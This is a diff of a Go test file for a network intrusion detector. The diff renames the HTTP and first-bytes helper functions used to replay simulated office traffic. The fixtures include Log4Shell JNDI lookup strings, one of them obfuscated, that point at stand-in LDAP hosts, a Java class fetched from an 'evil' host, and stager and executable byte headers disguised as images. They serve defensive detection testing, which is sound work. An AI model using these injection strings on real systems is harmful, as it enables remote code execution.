@@ -13,24 +13,24 @@ import (
 
 const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
 
-func (o *office) get(id uint64, from int, client, server netip.AddrPort, number int, method, host, path, agent string) {
+func (o *office) httpGet(id uint64, from int, client, server netip.AddrPort, number int, method, host, path, agent string) {
 	o.play(&flow.HTTP{Meta: o.meta(mac(from)), ConnID: id, Client: client, Server: server, Number: number, Method: method, Host: host, Path: path, UserAgent: agent, Length: -1})
 }
 
-func (o *office) answer(id uint64, from int, client, server netip.AddrPort, number int, contentType string, length int64, body []byte) {
+func (o *office) httpReply(id uint64, from int, client, server netip.AddrPort, number int, contentType string, length int64, body []byte) {
 	o.play(&flow.HTTPReply{Meta: flow.Meta{Time: o.now, SrcMAC: gatewayMAC, DstMAC: mac(from)}, ConnID: id, Client: client, Server: server, Number: number, Status: 200,
 		ContentType: contentType, Length: length, Body: body})
 }
 
 // ask is one request with its answer, on a connection of its own.
-func (o *office) ask(from int, server netip.AddrPort, method, host, path, agent, contentType string, length int64, body []byte) {
+func (o *office) httpAsk(from int, server netip.AddrPort, method, host, path, agent, contentType string, length int64, body []byte) {
 	o.exchange(from, server, 6, 300, uint64(max(length, 0)), func(id uint64, c netip.AddrPort) {
-		o.get(id, from, c, server, 1, method, host, path, agent)
-		o.answer(id, from, c, server, 1, contentType, length, body)
+		o.httpGet(id, from, c, server, 1, method, host, path, agent)
+		o.httpReply(id, from, c, server, 1, contentType, length, body)
 	})
 }
 
-func (o *office) first(from int, server netip.AddrPort, fromServer bool, data []byte) {
+func (o *office) firstWords(from int, server netip.AddrPort, fromServer bool, data []byte) {
 	m := o.meta(mac(from))
 	if fromServer {
 		m.SrcMAC, m.DstMAC = m.DstMAC, m.SrcMAC
@@ -49,10 +49,10 @@ func TestPollingForOrders(t *testing.T) {
 		if i == 6 {
 			size = 90_000 // an order
 		}
-		o.ask(10, server, "GET", host, paths[i%3], firefox, "text/html", size, nil)
+		o.httpAsk(10, server, "GET", host, paths[i%3], firefox, "text/html", size, nil)
 		if i == 6 {
 			o.wait(2 * time.Second)
-			o.ask(10, server, "POST", host, paths[1], firefox, "text/html", 1245, nil)
+			o.httpAsk(10, server, "POST", host, paths[1], firefox, "text/html", 1245, nil)
 		}
 		o.wait(5 * time.Second)
 	}
@@ -67,61 +67,61 @@ func TestHonestHTTPIsNoChannel(t *testing.T) {
 	for name, play := range map[string]func(o *office){
 		"page of a storage that refreshes itself": func(o *office) {
 			for _, p := range []string{"/", "/style.css", "/app.js", "/logo.png"} {
-				o.ask(10, nas, "GET", "192.168.0.66", p, firefox, "text/html", 4000, nil)
+				o.httpAsk(10, nas, "GET", "192.168.0.66", p, firefox, "text/html", 4000, nil)
 			}
 			for range 60 {
-				o.ask(10, nas, "GET", "192.168.0.66", "/api/status", firefox, "application/json", 310, nil)
+				o.httpAsk(10, nas, "GET", "192.168.0.66", "/api/status", firefox, "application/json", 310, nil)
 				o.wait(5 * time.Second)
 			}
 		},
 		"the same page, opened before the gateway started": func(o *office) {
 			for range 60 {
-				o.ask(10, nas, "GET", "192.168.0.66", "/api/status", firefox, "application/json", 310, nil)
+				o.httpAsk(10, nas, "GET", "192.168.0.66", "/api/status", firefox, "application/json", 310, nil)
 				o.wait(5 * time.Second)
 			}
 		},
 		"sensor that reports to its cloud": func(o *office) {
 			for range 60 {
-				o.ask(10, cloud, "POST", "api.example.com", "/v1/report", "sensor/1.2", "text/plain", 2, nil)
+				o.httpAsk(10, cloud, "POST", "api.example.com", "/v1/report", "sensor/1.2", "text/plain", 2, nil)
 				o.wait(30 * time.Second)
 			}
 		},
 		"agent of the machine room that asks a bare address": func(o *office) {
 			for i := range 60 {
-				o.ask(10, cloud, "GET", cloud.Addr().String(), []string{"/machine", "/health"}[i%2], "", "text/xml", 900, nil)
+				o.httpAsk(10, cloud, "GET", cloud.Addr().String(), []string{"/machine", "/health"}[i%2], "", "text/xml", 900, nil)
 				o.wait(6 * time.Second)
 			}
 		},
 		"browsing": func(o *office) {
 			for i := range 40 {
-				o.ask(10, cloud, "GET", "www.example.com", "/page"+string(rune('a'+i%26)), firefox, "text/html", int64(9000+377*i), nil)
-				o.ask(10, cloud, "GET", "www.example.com", "/p.png", firefox, "image/png", int64(100*i), nil)
+				o.httpAsk(10, cloud, "GET", "www.example.com", "/page"+string(rune('a'+i%26)), firefox, "text/html", int64(9000+377*i), nil)
+				o.httpAsk(10, cloud, "GET", "www.example.com", "/p.png", firefox, "image/png", int64(100*i), nil)
 				o.wait(20 * time.Second)
 			}
 		},
 		"installer from its maker": func(o *office) {
-			o.ask(10, cloud, "GET", "download.example.com", "/setup.exe", firefox, "application/x-msdownload", 5<<20, []byte("MZ\x90\x00\x03\x00\x00\x00"))
+			o.httpAsk(10, cloud, "GET", "download.example.com", "/setup.exe", firefox, "application/x-msdownload", 5<<20, []byte("MZ\x90\x00\x03\x00\x00\x00"))
 			o.tlsTo(10, port(cloud.Addr(), 443), "download.example.com", 900)
 		},
 		"firmware of a device, by its own updater": func(o *office) {
-			o.ask(10, cloud, "GET", "fw.example.com", "/v2/fw.bin", "updater/3", "application/octet-stream", 5<<20, []byte("\x7fELF\x01\x01\x01\x00"))
+			o.httpAsk(10, cloud, "GET", "fw.example.com", "/v2/fw.bin", "updater/3", "application/octet-stream", 5<<20, []byte("\x7fELF\x01\x01\x01\x00"))
 		},
 		"look-up text from outside": func(o *office) {
 			o.play(&flow.HTTP{Meta: o.meta(gatewayMAC), Client: port(net4(5), 4000), Server: port(ip(20), 8080), Number: 1, Method: "GET", UserAgent: "${jndi:ldap://198.51.100.1/a}"})
 		},
 		"directory of the office": func(o *office) {
-			o.first(10, port(ip(20), 389), false, []byte("0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00"))
+			o.firstWords(10, port(ip(20), 389), false, []byte("0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00"))
 		},
 		"chat among people": func(o *office) {
 			o.irc(10, port(net4(3), 6667), false, "JOIN", "#go-nuts", "")
 			o.irc(10, port(net4(3), 6667), true, "PRIVMSG", "#go-nuts", "scan the manual first, then ask")
 		},
 		"unknown protocols": func(o *office) {
-			o.first(10, port(net4(4), 9000), false, []byte{0, 0, 0, 1, 9, 9, 9})
-			o.first(10, port(net4(4), 9000), true, []byte{0x10, 0, 0, 0, 'M', 'Z', 0, 0}) // far too short for a program
-			o.first(10, port(net4(4), 9001), false, []byte(`{"method":"login","user":"a"}`))
-			o.first(10, port(net4(4), 9002), true, []byte("login: "))
-			o.first(10, port(net4(4), 9003), true, []byte("idle since 4\n"))
+			o.firstWords(10, port(net4(4), 9000), false, []byte{0, 0, 0, 1, 9, 9, 9})
+			o.firstWords(10, port(net4(4), 9000), true, []byte{0x10, 0, 0, 0, 'M', 'Z', 0, 0}) // far too short for a program
+			o.firstWords(10, port(net4(4), 9001), false, []byte(`{"method":"login","user":"a"}`))
+			o.firstWords(10, port(net4(4), 9002), true, []byte("login: "))
+			o.firstWords(10, port(net4(4), 9003), true, []byte("idle since 4\n"))
 		},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -182,7 +182,7 @@ func TestFirstWordsThatGiveAnIntruderAway(t *testing.T) {
 func TestAPromptIsNotAnyTextThatEndsLikeOne(t *testing.T) {
 	o := newOffice(t, detect.Config{})
 	for _, s := range []string{"price: 5$ ", "a@b # ", "# ", "user@example.com: hello\nbye$ ", "{\"mail\":\"a@b\",\"x\":\"# "} {
-		o.first(10, port(net4(4), 9000), false, []byte(s))
+		o.firstWords(10, port(net4(4), 9000), false, []byte(s))
 	}
 	o.want("c2_channel", "")
 }
@@ -211,12 +211,12 @@ func TestCodeLoadedByALookUp(t *testing.T) {
 			Method: "GET", Path: "/", UserAgent: "${${lower:j}ndi:ldap://203.0.0.1:1389/a}"})
 	}
 	class := func(o *office) {
-		o.ask(20, port(evil, 8888), "GET", "203.0.0.1:8888", "/Run.class", "Java/1.8.0_292", "application/octet-stream", 1200, []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"))
+		o.httpAsk(20, port(evil, 8888), "GET", "203.0.0.1:8888", "/Run.class", "Java/1.8.0_292", "application/octet-stream", 1200, []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"))
 	}
 	o := newOffice(t, detect.Config{})
 	inject(o)
 	o.want("c2_channel", "") // the noise of the internet
-	o.first(20, port(evil, 1389), false, bind)
+	o.firstWords(20, port(evil, 1389), false, bind)
 	o.want("c2_channel", detect.Medium)
 	class(o)
 	o.want("c2_channel", detect.High)
@@ -225,7 +225,7 @@ func TestCodeLoadedByALookUp(t *testing.T) {
 	}
 
 	o = newOffice(t, detect.Config{})
-	o.first(20, port(evil, 1389), false, bind) // a directory on an odd port, alone
+	o.firstWords(20, port(evil, 1389), false, bind) // a directory on an odd port, alone
 	o.want("c2_channel", "")
 	o.now = o.now.Add(time.Hour)
 	class(o)
@@ -247,18 +247,18 @@ func TestProgramsFromOddPlaces(t *testing.T) {
 		play func(o *office)
 	}{
 		"hidden as a picture, by a script, from a bare address": {detect.Medium, func(o *office) {
-			o.ask(10, bare, "GET", bare.String(), "/logo", "WindowsPowerShell/5.1", "image/png", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
+			o.httpAsk(10, bare, "GET", bare.String(), "/logo", "WindowsPowerShell/5.1", "image/png", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
 		}},
 		"by the check sum of a stager": {detect.Medium, func(o *office) {
-			o.ask(10, bare, "GET", bare.String(), "/aaa9", "Mozilla/5.0", "application/octet-stream", 200_000, []byte("\xfc\xe8\x89\x00\x00\x00\x60\x89")) // 97*3+57 = 348 = 92 mod 256
+			o.httpAsk(10, bare, "GET", bare.String(), "/aaa9", "Mozilla/5.0", "application/octet-stream", 200_000, []byte("\xfc\xe8\x89\x00\x00\x00\x60\x89")) // 97*3+57 = 348 = 92 mod 256
 		}},
 		"fetched by a person, then spoken to in no known protocol": {detect.Medium, func(o *office) {
-			o.ask(10, bare, "GET", bare.String(), "/tool.exe", firefox, "application/x-msdownload", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
+			o.httpAsk(10, bare, "GET", bare.String(), "/tool.exe", firefox, "application/x-msdownload", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
 			o.wait(time.Minute)
-			o.first(10, port(bare.Addr(), 4444), false, []byte{7, 7, 7, 7})
+			o.firstWords(10, port(bare.Addr(), 4444), false, []byte{7, 7, 7, 7})
 		}},
 		"named, but its name hides it": {detect.Low, func(o *office) {
-			o.ask(10, port(net4(2), 80), "GET", "blog.example.net", "/wp-content/Elw3k/", firefox, "application/x-msdownload", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
+			o.httpAsk(10, port(net4(2), 80), "GET", "blog.example.net", "/wp-content/Elw3k/", firefox, "application/x-msdownload", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
 		}},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -279,7 +279,7 @@ func TestOrdersOverIRC(t *testing.T) {
 
 func TestABotReports(t *testing.T) {
 	o := newOffice(t, detect.Config{})
-	o.first(10, port(net4(3), 23), false, []byte{0, 0, 0, 1})
+	o.firstWords(10, port(net4(3), 23), false, []byte{0, 0, 0, 1})
 	o.want("c2_channel", detect.Medium)
 }
 
@@ -304,8 +304,8 @@ func TestTLSWithoutANameOverAndOver(t *testing.T) {
 func TestOneFindingForEachCause(t *testing.T) {
 	o := newOffice(t, detect.Config{})
 	for range 100 {
-		o.first(10, port(net4(1), 3333), false, []byte(`{"method":"mining.subscribe"}`))
-		o.first(10, port(net4(2), 3333), false, []byte(`{"method":"mining.subscribe"}`))
+		o.firstWords(10, port(net4(1), 3333), false, []byte(`{"method":"mining.subscribe"}`))
+		o.firstWords(10, port(net4(2), 3333), false, []byte(`{"method":"mining.subscribe"}`))
 	}
 	if len(o.found) != 1 {
 		t.Errorf("%d findings", len(o.found))
